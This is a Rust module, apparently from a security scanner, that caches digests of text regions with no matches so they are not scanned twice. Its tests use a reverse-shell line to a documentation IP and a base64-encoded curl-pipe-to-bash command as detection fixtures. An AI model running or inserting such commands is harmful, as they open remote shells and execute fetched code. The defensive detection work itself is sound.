//! Texts in which no pattern matched: the same schemas, licences and words of settings lie in a thousand artifacts.

use std::collections::HashSet;

use crate::digest::Digest;
use crate::text::Region;

/// Texts that are remembered, at most: two megabytes of digests.
const MAX_TEXTS: usize = 1 << 16;

/// What one worker need not scan again.
#[derive(Debug, Default)]
pub(super) struct Quiet(HashSet<Digest>);

impl Quiet {
    /// By what a region is remembered. None where more than its text and kind decides what matches in it.
    pub(super) fn key(region: &Region) -> Option<Digest> {
        region.marks.is_empty().then(|| Digest::of(format!("{}\n{}", region.kind.name(), region.text)))
    }

    pub(super) fn holds(&self, key: &Digest) -> bool {
        self.0.contains(key)
    }

    /// Remembers a text in which nothing matched, and that holds nothing encoded.
    pub(super) fn add(&mut self, key: Digest) {
        if self.0.len() < MAX_TEXTS {
            self.0.insert(key);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::{Engine, Options};
    use crate::artifact::{Artifact, ArtifactKind};
    use crate::text::{MappedText, Mark, RegionKind, Role, SourceFile, Span};

    fn region(kind: RegionKind, text: &str) -> Region {
        Region::new(0, kind, MappedText::verbatim(text, 0))
    }

    #[test]
    fn text_and_kind_make_the_key_and_structure_has_none() {
        let key = Quiet::key(&region(RegionKind::Data, "a")).unwrap();
        assert_eq!(Some(key), Quiet::key(&region(RegionKind::Data, "a")));
        assert_ne!(Some(key), Quiet::key(&region(RegionKind::Script, "a")));
        assert_ne!(Some(key), Quiet::key(&region(RegionKind::Data, "b")));
        let marks = vec![Mark::new(Span::new(0, 1), Role::InlineCode)];
        assert_eq!(Quiet::key(&region(RegionKind::Data, "a").with_marks(marks)), None);
    }

    #[test]
    fn what_was_found_once_is_found_again() {
        let engine = Engine::new(Options::default()).unwrap();
        let mut worker = engine.worker();
        let plain = "import json\n";
        let shell = "import os\nos.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\n";
        let smuggled = "note = 'Y3VybCBodHRwczovL2V4YW1wbGUub3JnL2EgfCBiYXNo'\n";
        for text in [plain, shell, smuggled, plain, shell, smuggled] {
            let mut artifact = Artifact::new(ArtifactKind::File, "a.py", vec![SourceFile::new("a.py", text.into())]);
            artifact.regions.push(region(RegionKind::Script, text));
            assert_eq!(worker.run(&artifact).findings.is_empty(), text == plain, "{text}");
        }
    }
}
